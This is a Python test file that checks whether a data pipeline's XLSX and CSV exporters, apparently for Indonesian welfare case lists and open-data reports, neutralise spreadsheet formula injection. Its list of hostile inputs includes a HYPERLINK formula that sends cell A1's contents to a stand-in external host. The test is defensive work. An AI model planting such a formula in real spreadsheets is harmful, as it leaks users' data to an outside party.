"""No exported cell can turn into a formula: hostile agency text in every XLSX and CSV writer, then every cell scanned.

OWASP's CSV-injection rule: text beginning with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`.
Numbers stay numbers, negative ones included.
"""

import csv
import json
from pathlib import Path

import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook

from orchestration.exports.common import FORMULA_TRIGGERS, guard_formula
from orchestration.exports.feedback import write_feedback_workbooks
from orchestration.exports.kelurahan import Column, _Writer
from orchestration.exports.open_data import OpenDataReport, write_report
from tests.serving.test_feedback import feedback_tables

HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"klik")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def scan_for_formulas(root: Path) -> tuple[int, list]:
    """Every text cell of every XLSX and every field of every CSV under `root`: (cells read, dangerous ones)."""
    seen, dangerous = 0, []
    for path in sorted(root.rglob("*.xlsx")):
        book = CalamineWorkbook.from_path(str(path))
        for name in book.sheet_names:
            for row in book.get_sheet_by_name(name).to_python():
                seen += len(row)
                dangerous += [(path.name, cell) for cell in row if _dangerous(cell)]
    for path in sorted(root.rglob("*.csv")):
        with path.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                seen += len(row)
                dangerous += [(path.name, field) for field in row if _dangerous(field) and not _is_number(field)]
    return seen, dangerous


def _is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", HOSTILE)
def test_the_guard_quotes_formula_text_and_leaves_numbers_and_plain_text(text):
    assert guard_formula(text) == "'" + text
    assert guard_formula(-5) == -5 and guard_formula(-0.5) == -0.5
    assert guard_formula("SITI AMINAH") == "SITI AMINAH" and guard_formula("") == ""


def test_no_export_carries_a_formula(tmp_path):
    exports = tmp_path / "exports"
    # The lurah's workbook: names and addresses from the agencies, a negative change that must stay a number.
    (exports / "kelurahan").mkdir(parents=True)
    book = xlsxwriter.Workbook(str(exports / "kelurahan" / "daftar_kasus.xlsx"))
    _Writer(book).sheet(
        "Daftar Kasus Ekstrem", "Judul", ["Catatan"],
        (Column("Nama", 30), Column("Alamat", 30), Column("Perubahan", 10)),
        [[text, text, -2] for text in HOSTILE], confidential=True,
    )
    book.close()
    # The feedback workbook: the failing value and the row's original free text.
    connection = feedback_tables()
    for number, text in enumerate(HOSTILE):
        connection.execute(
            "insert into quarantine.quarantined_rows values ('mitra', ?, '2025-03', ?, 'invalid_nik', "
            "'NIK tidak valid', 'nik_penerima', ?, ?)",
            [f"mitra/2025-03/{text}.xlsx", number, text, json.dumps({"nama_penerima": text, "alamat": text})],
        )
    write_feedback_workbooks(connection, exports)
    # Open data: a region named by an agency, a negative difference that stays a number.
    report = OpenDataReport(table="rpt_hostile", keys=("region",), counts=("families",), plain=("change",))
    connection.execute("create table rpt_hostile as select unnest(?) as region, 10 as families, -7 as change", [HOSTILE])
    written = write_report(connection, report, exports / "open_data")

    seen, dangerous = scan_for_formulas(exports)

    assert seen > 6 * len(HOSTILE) and dangerous == []
    with written.path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(row["region"] for row in rows) == sorted("'" + text for text in HOSTILE)
    assert {row["change"] for row in rows} == {"-7"}
    cells = CalamineWorkbook.from_path(str(exports / "kelurahan" / "daftar_kasus.xlsx")).get_sheet_by_name(
        "Daftar Kasus Ekstrem"
    ).to_python()
    assert ["'" + HOSTILE[0], "'" + HOSTILE[0], -2.0] in cells
